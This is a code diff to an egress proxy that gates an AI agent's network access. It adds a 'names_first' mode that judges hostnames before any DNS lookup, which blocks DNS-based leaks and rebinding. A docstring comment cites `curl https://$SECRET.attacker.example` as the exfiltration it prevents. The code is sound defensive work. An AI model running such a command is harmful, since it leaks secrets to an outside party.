@@ -10,9 +10,12 @@ server, the client's keep-alive kept). For each target it:
 2. lets the agent's own model API through without asking (`model_hosts`);
 3. asks `screen(host, port)` first, when given: a refusal known from the name is answered
    before any DNS lookup, so the name never reaches a DNS server;
-4. resolves the name once, on the host, and calls `decide(host, port, addresses)` — which
+4. with `names_first`, calls `decide(host, port, ())` before any lookup: the name alone is
+   judged (and a person asked, where the policy asks), so a name nobody allowed never
+   reaches a DNS server (`curl https://$SECRET.attacker.example` leaks nothing);
+5. resolves the name once, on the host, and calls `decide(host, port, addresses)` — which
    may wait for a person; the caller bounds it with its own deadline;
-5. connects to exactly the addresses it handed `decide` (numeric, never resolved again),
+6. connects to exactly the addresses it handed `decide` (numeric, never resolved again),
    so a name that changes its answer between the check and the connection (DNS rebinding)
    cannot lead anywhere unchecked.
 
@@ -146,8 +149,9 @@ class EgressProxy:
     def __init__(self, socket_path: str | os.PathLike[str], decide: Decide, *,
                  model_hosts: Iterable[tuple[str, int]] = (), screen: Screen | None = None,
                  token: str | None = None, limits: EgressLimits | None = None,
-                 resolve: Resolve = system_resolve) -> None:
+                 resolve: Resolve = system_resolve, names_first: bool = False) -> None:
         self.socket_path = Path(socket_path)
+        self.names_first = names_first
         self.limits = limits or EgressLimits()
         self.counts = EgressCounts()
         self._decide, self._screen, self._token, self._resolve = decide, screen, token, resolve
@@ -336,9 +340,13 @@ class EgressProxy:
             reason = self._screen(canonical, port) if self._screen is not None else None
             if reason is not None:
                 raise Refused(403, reason)
-            addresses = await self._addresses(canonical, port)
             client.info.state = "deciding"
             self.counts.asked += 1
+            if self.names_first and parse_address(canonical) is None:
+                allowed, reason = await self._ask(reader, canonical, port, ())
+                if not allowed:
+                    raise Refused(403, reason)
+            addresses = await self._addresses(canonical, port)
             allowed, reason = await self._ask(reader, canonical, port, addresses)
             if not allowed:
                 raise Refused(403, reason)
